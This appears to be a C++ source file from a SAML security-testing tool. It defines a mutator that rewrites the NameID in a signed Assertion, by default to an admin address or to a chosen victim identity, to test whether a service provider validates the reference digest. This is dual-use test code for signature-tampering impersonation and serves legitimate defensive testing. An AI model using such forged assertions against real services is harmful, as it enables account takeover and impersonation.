// SPDX-License-Identifier: Apache-2.0
// signature.digest_tampered — the attacker edits a signed Assertion (here the NameID) without the
// key; an SP that checks only SignatureValue over SignedInfo, or skips the Reference digest,
// accepts it (attack-catalogue SIG-CONTENT-TAMPER, SIG-NONE). xmldsig-core §3.2.1 (reference
// validation); saml-core §5.4.
#include "mutators/mutators.hpp"
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: name_id (the last NameID's new text, default admin@contoso.example), or victim (the
// identity written into every NameID and the email and name claims, as the XSW builds do).
core::Result<void> signature_digest_tampered(Target& target) {
  namespace n = core::names;
  xmlNode* name_id = nullptr;
  for (xmlNode* node : core::descendants_named(target.doc->root(), n::ns_assertion, "NameID")) {
    name_id = node;
  }
  if (name_id == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no NameID to change");
  }
  auto new_name = string_param(target, "name_id");
  auto victim = string_param(target, "victim");
  if (!new_name || !victim) {
    return core::fail(!new_name ? new_name.error() : victim.error());
  }
  if (*victim) {
    xsw::write_victim(target.doc->root(), **victim);
    return {};
  }
  core::set_text(name_id, new_name->value_or("admin@contoso.example"));
  return {};
}

}  // namespace samlt::idp::mutators
